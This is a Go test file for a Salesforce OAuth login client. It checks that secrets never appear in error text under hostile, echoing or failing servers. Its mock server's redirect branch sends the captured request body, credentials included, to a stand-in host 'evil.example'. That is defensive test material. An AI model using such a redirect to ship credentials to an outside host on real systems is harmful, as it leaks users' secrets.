package salesforce

import (
	"context"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// Distinctive secret values: if any of them shows up in an error, a status condition or
// an event would leak it.
const (
	leakPassword      = "Pw-4f7c2e9b"
	leakSecurityToken = "St-81d3a6c0"
	leakClientSecret  = "Cs-b29e57f1"
	leakRefreshToken  = "Rt-5Aep861c"
	leakAccessToken   = "At-00Dx9d1e"
)

func leakyRequest(t *testing.T, loginURL string, grant Grant) LoginRequest {
	return LoginRequest{
		LoginURL: loginURL, Grant: grant,
		ClientID: "3MVG9consumerKey", ClientSecret: leakClientSecret,
		Username: "integration@acme.com", Password: leakPassword, SecurityToken: leakSecurityToken,
		PrivateKey: rsaKey(t), RefreshToken: leakRefreshToken,
	}
}

// echoServer answers with a page that repeats the whole request, as some proxies and
// debug error pages do, and records the bodies it saw (to catch the JWT assertion).
type echoServer struct {
	mu     sync.Mutex
	bodies []string
}

func (s *echoServer) start(t *testing.T, status int, contentType, page string) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.bodies = append(s.bodies, string(raw))
		s.mu.Unlock()
		if status >= 300 && status < 400 {
			w.Header().Set("Location", "https://evil.example/?"+string(raw))
		}
		w.Header().Set("Content-Type", contentType)
		w.WriteHeader(status)
		_, _ = fmt.Fprintf(w, page, string(raw))
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestErrorsNeverCarrySecrets(t *testing.T) {
	pemKey := string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: []byte("Kb-" + leakPassword)}))
	secrets := []string{leakPassword, leakSecurityToken, leakPassword + leakSecurityToken, leakClientSecret, leakRefreshToken, leakAccessToken}
	for _, line := range strings.Split(pemKey, "\n") {
		if line != "" && !strings.HasPrefix(line, "-----") {
			secrets = append(secrets, line) // the key's base64 body
		}
	}

	es := &echoServer{}
	answers := []struct {
		name, contentType, page string
		status                  int
	}{
		{"HTML 503 echoing the request", "text/html", "<html><body>Unavailable: %s</body></html>", 503},
		{"HTML 200 echoing the request", "text/html", "<html><body>Welcome: %s</body></html>", 200},
		{"HTML 400 echoing the request", "text/html", "<html>Bad request %s</html>", 400},
		{"text 502 echoing the request", "text/plain", "upstream said: %s", 502},
		{"JSON 500 echoing the request in an unknown field", "application/json", `{"debug":%q}`, 500},
		{"JSON 400 without code echoing the request", "application/json", `{"request":%q}`, 400},
		{"JSON 400 echoing the request into error_description", "application/json", `{"error":"invalid_grant","error_description":%q}`, 400},
		{"JSON 400 echoing the request into error", "application/json", `{"error":%q}`, 400},
		{"redirect carrying the request", "text/html", "<a>%s</a>", 307},
		{"200 truncated JSON with an access token", "application/json", `{"access_token":"` + leakAccessToken + `","request":%q`, 200},
		{"200 JSON without access_token", "application/json", `{"refresh_token":"` + leakAccessToken + `","request":%q}`, 200},
		{"200 JSON array with an access token", "application/json", `[{"access_token":"` + leakAccessToken + `"},%q]`, 200},
	}

	type failure struct {
		name string
		err  error
	}
	var failures []failure
	grants := []Grant{GrantPassword, GrantRefreshToken, GrantClientCredentials, GrantJWTBearer}
	for _, a := range answers {
		srv := es.start(t, a.status, a.contentType, a.page)
		for _, g := range grants {
			_, err := login(t, newTestClient(), leakyRequest(t, srv.URL, g))
			failures = append(failures, failure{fmt.Sprintf("%s/%s", a.name, g), err})
		}
	}

	// Transport failures: refused connection and timeout.
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	blocked := blockingServer(t)
	for _, g := range grants {
		_, err := login(t, newTestClient(), leakyRequest(t, closed.URL, g))
		failures = append(failures, failure{"refused/" + string(g), err})
		_, err = login(t, newTestClient(WithTimeout(20*time.Millisecond)), leakyRequest(t, blocked.URL, g))
		failures = append(failures, failure{"timeout/" + string(g), err})
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		_, err = newTestClient().Login(ctx, leakyRequest(t, blocked.URL, g))
		failures = append(failures, failure{"canceled/" + string(g), err})
	}

	// Validation failures, with every other secret present.
	for _, m := range []func(*LoginRequest){
		func(r *LoginRequest) { r.ClientID = "" },
		func(r *LoginRequest) { r.Username = "" },
		func(r *LoginRequest) { r.PrivateKey = nil },
		func(r *LoginRequest) { r.LoginURL = "https://u:" + leakPassword + "@login.salesforce.com" },
		func(r *LoginRequest) { r.LoginURL = "https://login.salesforce.com/?p=" + url.QueryEscape(leakPassword) },
		func(r *LoginRequest) { r.LoginURL = "https://" + leakPassword + "%zz" },
	} {
		for _, g := range grants {
			req := leakyRequest(t, "https://login.salesforce.com", g)
			m(&req)
			_, err := login(t, newTestClient(), req)
			failures = append(failures, failure{"validation/" + string(g), err})
		}
	}

	// Key parsing.
	_, err := ParseRSAPrivateKey([]byte(pemKey))
	failures = append(failures, failure{"key", err})
	_, err = ParseRSAPrivateKey([]byte(leakPassword))
	failures = append(failures, failure{"key garbage", err})

	es.mu.Lock()
	for _, body := range es.bodies {
		form, _ := url.ParseQuery(body)
		if a := form.Get("assertion"); a != "" {
			secrets = append(secrets, a, strings.Split(a, ".")[2]) // the assertion and its signature
		}
	}
	es.mu.Unlock()
	if len(secrets) < 9 {
		t.Fatal("no JWT assertion was captured; the test does not cover it")
	}

	for _, f := range failures {
		if f.err == nil {
			t.Errorf("%s: want an error", f.name)
			continue
		}
		e := asError(t, f.err)
		texts := []string{f.err.Error(), e.Code, e.Description, e.Message, fmt.Sprintf("%v", f.err)}
		if e.Err != nil {
			texts = append(texts, e.Err.Error())
		}
		for _, text := range texts {
			for _, s := range secrets {
				if strings.Contains(text, s) {
					t.Errorf("%s: error text %q contains a secret", f.name, text)
				}
			}
		}
	}
}
